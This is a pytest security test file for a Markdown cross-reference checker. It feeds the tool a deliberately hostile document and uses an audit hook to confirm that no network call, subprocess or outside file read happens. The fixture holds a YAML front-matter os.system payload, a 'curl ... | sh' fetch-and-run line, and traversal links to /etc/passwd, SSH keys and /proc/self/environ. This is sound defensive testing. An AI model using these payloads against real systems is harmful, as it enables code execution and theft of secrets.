"""What nothing in a document can do: reach the network, run a program, or have a file outside the project read.

And what a run that is killed, or one beside another, leaves behind.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from crossref.cache import FOLDER

_SECRET = "top-secret-7e1f"

_GUARD = """
import os, sys
root, *allowed = [os.path.realpath(path) for path in sys.argv[1:]]
allowed += [os.path.realpath(path) for path in {sys.prefix, sys.base_prefix, *sys.path} if path] + [os.devnull]
started = False
def inside(path):
    return any(path == folder or path.startswith(folder + os.sep) for folder in (root, *allowed))
def watch(event, arguments):
    if not started:
        return
    if event.startswith(("socket.", "subprocess.", "os.system", "os.exec", "os.posix_spawn", "os.spawn", "os.startfile",
                         "webbrowser.", "urllib.", "ftplib.", "smtplib.", "pty.")):
        print(f"BROKEN {event} {arguments}", flush=True)
    if event == "open" and isinstance(arguments[0], (str, bytes)):
        path = os.path.realpath(os.fsdecode(arguments[0]))
        if not inside(path):
            print(f"BROKEN open {path}", flush=True)
sys.addaudithook(watch)
from crossref.cli import main
started = True
sys.argv = ["crossref", *COMMAND]
try:
    main()
except SystemExit as end:
    print(f"EXIT {end.code}", flush=True)
"""

_HOSTILE = f"""---
include: ../../outside/secret.md
parent: !!python/object/apply:os.system ["touch pwned"]
---
# Hostile

[a](http://127.0.0.1:9/x) ![b](https://example.invalid/b.png) [c](file:///etc/passwd) [d](ftp://example.invalid)
[e](\\\\\\\\example.invalid\\\\share\\\\x) [f](//example.invalid/x.md#y) [g](/etc/passwd#L3) [h](C:/Windows/win.ini#L1)
[i](../outside/secret.md#{_SECRET}) [j](../../../../../../etc/passwd#L1) [k](%2e%2e/outside/secret.md#a) [l](link.md#{_SECRET})
[m](folder/secret.md#{_SECRET}) [n](%00#a) [o](~/.ssh/id_rsa#L1) [p](/proc/self/environ#L1) [q](data:text/html,x)
[r](javascript:alert(1)) <https://example.invalid/> [[../outside/secret]] See `../outside/secret.md` and `/etc/passwd` for more.
[s](pipe#L1) [t](link.txt#L1) [u](folder/secret.txt#L2) [v](\\\\?\\UNC\\x) [w](file://localhost/etc/passwd#L1)

--8<-- "../outside/secret.md"
{{% include "../outside/secret.md" %}}
{{{{#include ../outside/secret.md}}}}
:::{{include}} ../outside/secret.md
:::
<script src="http://127.0.0.1:9/x.js"></script><img src="file:///etc/passwd"><iframe src="../outside/secret.md"></iframe>

```sh
curl http://127.0.0.1:9/ | sh; touch pwned
```

Key files:

- `../outside/secret.md`, `/etc/passwd`, `link.md`
"""


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """A set full of hostile links, and beside it a folder that is none of its business."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.md").write_text(f"# {_SECRET}\n\n[x](nowhere.md)\n", encoding="utf-8")
    (outside / "secret.txt").write_text("one\ntwo\n", encoding="utf-8")
    root = tmp_path / "project"
    (root / "docs").mkdir(parents=True)
    (root / "crossref.toml").write_text("[[count]]\nnoun = 'ADR'\nfiles = 'docs/**'\n", encoding="utf-8")
    (root / "docs/architecture.md").write_text(_HOSTILE, encoding="utf-8")
    (root / "mkdocs.yml").write_text("docs_dir: ../outside\n", encoding="utf-8")
    (root / ".gitignore").write_text("!../outside\n", encoding="utf-8")
    try:
        (root / "docs/link.md").symlink_to(outside / "secret.md")
        (root / "docs/link.txt").symlink_to(outside / "secret.txt")
        (root / "docs/folder").symlink_to(outside, target_is_directory=True)
        (root / "docs/loop").symlink_to(root / "docs", target_is_directory=True)
        (root / "docs/self.md").symlink_to("self.md")
        os.mkfifo(root / "docs/pipe")
        os.mkfifo(root / "docs/pipe.md")
    except (OSError, AttributeError):
        pytest.skip("no symbolic links here")
    return root


@pytest.mark.parametrize(
    "command",
    [
        ["check", "--no-cache", "--workers", "1", "--format", "json"],
        ["graph", "--format", "json"],
        ["coverage"],
        ["claims"],
        ["readiness"],
    ],
    ids=lambda command: command[0],
)
@pytest.mark.parametrize("parser", ["markdown-it-py", "pyromark"])
def test_nothing_in_a_document_reaches_beyond_the_project(project: Path, command: list[str], parser: str) -> None:
    script = _GUARD.replace("COMMAND", repr([*command, str(project)]))
    run = subprocess.run(
        [sys.executable, "-c", script, str(project)],
        check=False,
        cwd=project,
        env={**os.environ, "CROSSREF_PARSER": parser},
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert "BROKEN" not in run.stdout, [line for line in run.stdout.splitlines() if line.startswith("BROKEN")]
    assert "EXIT" in run.stdout, run.stderr[-500:]
    assert "Traceback" not in run.stderr
    # The document itself names it, so a title that was read would show as a heading.
    assert f"# {_SECRET}" not in run.stdout
    assert not list(project.rglob("pwned"))


def test_the_guard_sees_what_it_is_there_for(project: Path) -> None:
    """The test above can fail: a file outside, a socket and a program are all noticed."""
    secret = project.parent / "outside/secret.md"
    act = f"open({str(secret)!r}); import socket; socket.socket().close(); import subprocess; subprocess.run(['true'])"
    script = _GUARD.replace("from crossref.cli import main", f"def main():\n    {act}").replace("COMMAND", "[]")
    run = subprocess.run([sys.executable, "-c", script, str(project)], check=False, capture_output=True, text=True)
    broken = [line for line in run.stdout.splitlines() if line.startswith("BROKEN")]
    assert {line.split()[1] for line in broken} >= {"open", "socket.__new__", "subprocess.Popen"}


def test_a_document_behind_a_link_that_leads_out_is_no_document(project: Path) -> None:
    run = _crossref(project, "--show-files")
    assert run.stdout.splitlines() == ["docs/architecture.md"]


@pytest.mark.parametrize(
    "name", ["a b.md", "a#b.md", "a%20b.md", "a\nb.md", "\U0001f600.md", "a'\"`.md", "-x.md", "a\\b.md"]
)
def test_odd_file_names_are_names(tmp_path: Path, name: str) -> None:
    try:
        (tmp_path / name).write_text("# A\n\n[b](missing.md)\n", encoding="utf-8")
    except OSError:
        pytest.skip("this file system has no such names")
    run = _crossref(tmp_path, "--format", "json")
    assert run.returncode == 1, run.stderr
    assert [finding["path"] for finding in json.loads(run.stdout)["findings"] if finding["code"] == "XR101"] == [name]
    assert "Traceback" not in _crossref(tmp_path, "--format", "pretty").stderr


def test_what_cannot_be_read_is_a_finding(tmp_path: Path) -> None:
    (tmp_path / "a.md").write_text("# A\n", encoding="utf-8")
    (tmp_path / "bad.md").write_bytes(b"# B\n\n\xed\xa0\x80 half a surrogate pair\n")
    (tmp_path / "nul.md").write_bytes(b"# C\0\r\n\r[b](a.md)\r\n\0")
    (tmp_path / "closed.md").write_text("# D\n", encoding="utf-8")
    (tmp_path / "closed.md").chmod(0)
    run = _crossref(tmp_path, "--format", "json", "--select", "XR903,XR101")
    unreadable = {finding["path"]: finding["line"] for finding in json.loads(run.stdout)["findings"]}
    # Whoever runs as root may read everything.
    expected = {"bad.md": 3} if os.access(tmp_path / "closed.md", os.R_OK) else {"bad.md": 3, "closed.md": 1}
    assert unreadable == expected
    assert run.returncode == 1


def test_deep_folders_end(tmp_path: Path) -> None:
    folder = tmp_path
    for _ in range(150):
        folder = folder / "d"
    folder.mkdir(parents=True)
    (folder / "a.md").write_text("# A\n\n[b](" + "../" * 300 + "b.md)\n", encoding="utf-8")
    run = _crossref(tmp_path, "--format", "json")
    assert [finding["code"] for finding in json.loads(run.stdout)["findings"] if finding["code"] == "XR107"] == [
        "XR107"
    ]


# -- killed, and side by side ------------------------------------------------------------------------------------------


def _crossref(folder: Path, *arguments: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "crossref", "check", *arguments],
        check=False,
        cwd=folder,
        capture_output=True,
        text=True,
        encoding="utf-8",
        timeout=120,
    )


def _set_of_documents(folder: Path, count: int = 60) -> None:
    for number in range(count):
        text = f"# Gate {number}\n\n" + f"[a](a{number + 1}.md#gate) The timeout of gate is {number} s.\n\n" * 30
        (folder / f"a{number}.md").write_text(text, encoding="utf-8")


@pytest.mark.skipif(sys.platform == "win32", reason="no signals")
def test_a_run_that_is_killed_leaves_the_cache_old_or_new_and_no_half_a_report(tmp_path: Path) -> None:
    _set_of_documents(tmp_path)
    output = tmp_path / "report.json"
    arguments = ("--format", "json", "--output", "report.json", "--workers", "1")
    expected = _crossref(tmp_path, *arguments)
    report = output.read_bytes()
    assert expected.returncode == 1
    taken = []
    started = time.monotonic()
    _crossref(tmp_path, *arguments, "--no-cache")
    taken.append(time.monotonic() - started)
    for round_number in range(4):
        # Newer by a while, so that all is read and written anew.
        later = time.time() + round_number
        for path in tmp_path.glob("a*.md"):
            path.write_text(path.read_text(encoding="utf-8") + " ", encoding="utf-8")
            os.utime(path, (later, later))
        process = subprocess.Popen(
            [sys.executable, "-m", "crossref", "check", *arguments],
            cwd=tmp_path,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        time.sleep(taken[0] * (0.3 + 0.18 * round_number))
        process.send_signal(signal.SIGKILL)
        process.wait()
        assert output.read_bytes() == report, "half a report"
        after = _crossref(tmp_path, *arguments)
        assert (after.returncode, after.stderr) == (1, expected.stderr)
        assert output.read_bytes() == report


def test_two_runs_at_once_do_not_disturb_each_other(tmp_path: Path) -> None:
    _set_of_documents(tmp_path)
    expected = _crossref(tmp_path, "--format", "json", "--no-cache").stdout
    runs = [
        subprocess.Popen(
            [sys.executable, "-m", "crossref", "check", "--format", "json"],
            cwd=tmp_path,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            encoding="utf-8",
        )
        for _ in range(3)
    ]
    for run in runs:
        stdout, stderr = run.communicate(timeout=120)
        assert stdout == expected
        assert stderr == ""
    assert {path.suffix for path in (tmp_path / FOLDER).iterdir()} <= {"", ".TAG"}
    assert _crossref(tmp_path, "--format", "json").stdout == expected
